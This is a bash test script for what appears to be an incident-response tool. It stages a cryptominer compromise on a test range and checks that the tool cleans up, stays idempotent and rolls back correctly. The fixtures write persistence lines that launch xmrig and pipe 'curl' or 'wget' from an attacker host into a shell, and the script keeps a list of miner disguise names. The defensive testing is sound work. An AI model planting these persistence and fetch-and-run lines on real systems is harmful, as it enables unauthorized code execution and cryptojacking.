#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# The main job: the staged incident is planned, cleaned up, found clean, and taken back.
set -u
range_seconds=600
. "$TOP_SRCDIR/tests/range/host.sh"
enter_range "$@"
install_respond

# The operator's session and the honest parts of the host are the incident's; its facts
# are variables: SERVER, OPERATOR, ATTACKER_FINGERPRINT, MYSQLD_PID, ...
stage_incident
miner=(--playbook miner.pb --set "attacker-keys=$ATTACKER_FINGERPRINT")
work=$scratch
printf 'PATH=$PATH:/opt/bin\n/usr/local/bin/xmrig -o %s:3333 &\n' "$SERVER" >/etc/profile.d/zz-path.sh
printf 'umask 022\n(sleep 5; curl -s http://%s/m.sh | sh) &\n' "$SERVER" >>/home/operator/.profile

# ---- questions to the host -------------------------------------------------------

# Each of these two gives up soon: whoever expects an answer awaits it.
connects_out() {
	timeout 1 bash -c "exec 3<>/dev/tcp/$SERVER/3333" 2>/dev/null
}

# From the server's address to our sshd: whether it is answered at all.
connects_in() {
	ip netns exec internet ssh -b "$1" -o ConnectTimeout=1 -o BatchMode=yes -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null nobody@192.168.1.100 true 2>&1 | grep -q 'Permission denied'
}

operator_can_log_in() {
	ip netns exec internet ssh -i /run/range/keys/operator -b "$OPERATOR" -o BatchMode=yes -o LogLevel=ERROR \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null operator@192.168.1.100 true
}

root_can_log_in() {
	ip netns exec internet ssh -i "/run/range/keys/$1" -b "$OPERATOR" -o BatchMode=yes -o LogLevel=ERROR \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@192.168.1.100 true
}

# Miners that run: a zombie whose parent does not care is none.
miners() {
	ps -e -o pid=,stat=,comm=,args= |
		awk '$2 !~ /^Z/ && ($3 ~ /^(xmrig|kthreadd|kdevtmpfsi|syslog-helper|dbus-helper)$/ || $4 ~ /xmrig/)'
}

no_miners() {
	[ -z "$(miners)" ] || { miners; return 1; }
}

# It is there, and neither dead nor stopped: it may have something to do.
lives() {
	ps -o stat= -p "$1" | grep -q '^[SRD]'
}

# Each connection to sshd has one child of it, which stays for a moment when the client has gone.
operator_alone_is_in() {
	[ "$(pgrep -c -P "$SSHD_PID")" = 1 ]
}

in_vault() {
	find "$state_dir" -type f -print0 | xargs -0 sha256sum | grep -q "^$1"
}

file_hash() {
	sha256sum "$1" | cut -d' ' -f1
}

root_login_settings() {
	sshd_settings | grep '^permitrootlogin' | sort | uniq -c | tr -s ' '
}

# ---- what there is before ----------------------------------------------------------

cp -p /root/.ssh/authorized_keys /var/spool/cron/crontabs/root $work
xmrig=$(file_hash /usr/local/bin/xmrig)
script=$(file_hash /tmp/malicious.sh)
cron_script=$(file_hash /etc/cron.hourly/malicious)
files=$(incident_files)
firewall=$(firewall)
sshd=$(sshd_settings)
touched=$(touched_files)

check "the server is reached before" await connects_out
check "the server reaches us before" await connects_in "$SERVER"
check "root's attacker can log in before" root_can_log_in attacker

# A connection to the server whose process is not to be killed.
RANGE_DEADLINE=$RANGE_DEADLINE "$TOP_BUILDDIR/tests/range/sleeper" -c "$SERVER" 3333 &
beacon=$!
is_connected() {
	ss -Htnp state established dst "$SERVER" | grep -q "pid=$beacon,"
}
await is_connected || echo "the beacon does not connect"
await operator_alone_is_in || echo "sshd has somebody else yet"

# ---- dry run -----------------------------------------------------------------------

everything=$(every_file)
processes=$(processes)

run_respond "${miner[@]}" --dry-run
same "dry run: changes are pending" 5 $status
check "dry run: what is seen would be kept" grep -qE '[0-9]+ items of evidence .* would be kept' <<<"$output"
check "dry run: the miner is among it" grep -qE 'files.json +[0-9]+ files, 1 of them executable ' <<<"$output"
for target in xmrig kdevtmpfsi kthreadd /usr/local/bin/xmrig /tmp/malicious.sh /etc/cron.hourly/malicious \
	/etc/profile.d/zz-path.sh /home/operator/.profile \
	/root/.ssh/authorized_keys /var/spool/cron/crontabs/root /etc/ssh/sshd_config 203.0.113.67 \
	'-*/5 \* \* \* \* wget -qO- http://malicious-site.example/m.sh | bash'; do
	check "dry run: shows $target" grep -qe "${target//\*\/5/\\*/5}" <<<"$output"
done
run_json "${miner[@]}" --dry-run
same "dry run: the same for machines" 5 $status
printf '%s\n' "$output" >$work/plan
same "dry run: every file is as it was" "$everything" "$(every_file)"
same "dry run: every process is as it was" "$processes" "$(processes)"
same "dry run: the firewall is as it was" "$firewall" "$(firewall)"

# ---- run -----------------------------------------------------------------------------

run_respond "${miner[@]}"
same "run: done and clean" 0 $status
[ $status = 0 ] || printf '%s\n' "$output" | tap_note
sleep 1 # the watchdogs' period is 0.2 s
check "run: the miners are dead and do not come back" no_miners
check "run: the database lives" lives "$MYSQLD_PID"
check "run: the operator's session lives" lives "$SESSION_PID"
check "run: sshd lives" lives "$SSHD_PID"
check "run: the operator can log in again" operator_can_log_in
wait $beacon
same "run: a live connection to the server is ended" 3 $?
check_not "run: the server is not reached any more" connects_out
check_not "run: the server does not reach us any more" connects_in "$SERVER"
check "run: others reach us" await connects_in "$OPERATOR"

for path in /usr/local/bin/xmrig /tmp/malicious.sh /etc/cron.hourly/malicious; do
	check_not "run: $path is gone" test -e $path
done
check "run: the miner is in the vault" in_vault "$xmrig"
check "run: the script is in the vault" in_vault "$script"
check "run: the cron script is in the vault" in_vault "$cron_script"
check "run: the vault is root's alone" test "$(stat -c %a:%U "$state_dir")" = 700:root

same "run: only the attacker's key is gone" "$(grep -v malicious-site $work/authorized_keys | sha256sum)" \
	"$(printf '%s\n' "$(cat /root/.ssh/authorized_keys)" | sha256sum)"
same "run: the last line of authorized_keys still has no newline" "$(tail -c 20 $work/authorized_keys | od -c)" \
	"$(tail -c 20 /root/.ssh/authorized_keys | od -c)"
check "run: authorized_keys is immutable again" grep -q '^....i' <(lsattr /root/.ssh/authorized_keys)
same "run: authorized_keys has its mode and owner" 600:root:root "$(stat -c %a:%U:%G /root/.ssh/authorized_keys)"
same "run: only the attacker's cron line is gone" "$(grep -v malicious-site $work/root)" \
	"$(cat /var/spool/cron/crontabs/root)"
check_not "run: no login starts it" grep -rqs xmrig /etc/profile.d
same "run: the operator's .profile has all but the line that leads to the server" "umask 022" \
	"$(tail -n 1 /home/operator/.profile)"
same "run: the crontab has its mode, owner and link count" "$(stat -c '%a %u %g %h' $work/root)" \
	"$(stat -c '%a %u %g %h' /var/spool/cron/crontabs/root)"
same "run: root cannot log in, in any case" " 8 permitrootlogin no" "$(root_login_settings)"
check_not "run: root's attacker cannot log in" root_can_log_in attacker
same "run: the foreign table is as it was" "$firewall" "$(nft -s list table inet firewalld)"

run=$(last_run)
run_json --show "$run"
printf '%s\n' "$output" >$work/journal
not_processes() {
	grep -vE '^(kill|stop|freeze|destroy|end) ' | sort
}
same "run: the journal says what the dry run said" "$(json 'plan.steps.*.changes.*.summary' <$work/plan | not_processes)" \
	"$(json 'changes.*.summary' <$work/journal | not_processes)"

check "run: footholds go before what they start, files last" \
	grep -qE '^footholds kill kill-kin c2 files keys sshd $' <<<"$(json 'changes.*.step' <$work/journal | uniq | tr '\n' ' ')"
same "run: the evidence has the processes" 1 "$(json 'evidence.*.name' <$work/journal | grep -cx processes.json)"
check "run: and the miner itself" grep -qx "$xmrig" <<<"$(json 'evidence.*.sha256' <$work/journal)"
run_respond --report "$run" --format md
same "run: the report is made" 0 $status
check "run: it has what was seen and what was done" grep -q 'processes.json' <<<"$output"

# ---- run again -----------------------------------------------------------------------

after=$(describe_files --times /etc /root/.ssh /usr/local/bin /var/spool/cron /tmp)
rules=$(firewall)
runs=$(respond --list --format json)
run_respond "${miner[@]}"
same "again: nothing to do" 0 $status
same "again: no file was touched" "$after" "$(describe_files --times /etc /root/.ssh /usr/local/bin /var/spool/cron /tmp)"
same "again: the firewall is as it was" "$rules" "$(firewall)"
same "again: no new run" "$runs" "$(respond --list --format json)"
run_respond "${miner[@]}" --dry-run
same "again: a dry run finds nothing either" 0 $status

# ---- rollback --------------------------------------------------------------------------

await operator_alone_is_in || echo "sshd has somebody else yet"
after=$(every_file)
run_respond --rollback "$run" --dry-run
same "rollback, dry run: not everything can be undone" 3 $status
same "rollback, dry run: every file is as it was" "$after" "$(every_file)"

run_respond --rollback "$run"
same "rollback: not everything can be undone" 3 $status
check "rollback: says that the kills cannot" grep -qiE 'cannot be undone' <<<"$output"
same "rollback: every file is back, with owner, mode, xattrs and flags" "$files" "$(incident_files)"
same "rollback: nothing else differs" "$touched" "$(touched_files)"
same "rollback: the firewall is as before" "$firewall" "$(firewall)"
same "rollback: sshd's settings are as before" "$sshd" "$(sshd_settings)"
check "rollback: sshd lives" lives "$SSHD_PID"
check "rollback: sshd answers" root_can_log_in attacker
check "rollback: the database lives" lives "$MYSQLD_PID"
check "rollback: the operator's session lives" lives "$SESSION_PID"
check "rollback: the server is reached again" await connects_out

run_respond --rollback "$run"
same "rollback: a second one changes nothing" "$files" "$(incident_files)"
finish
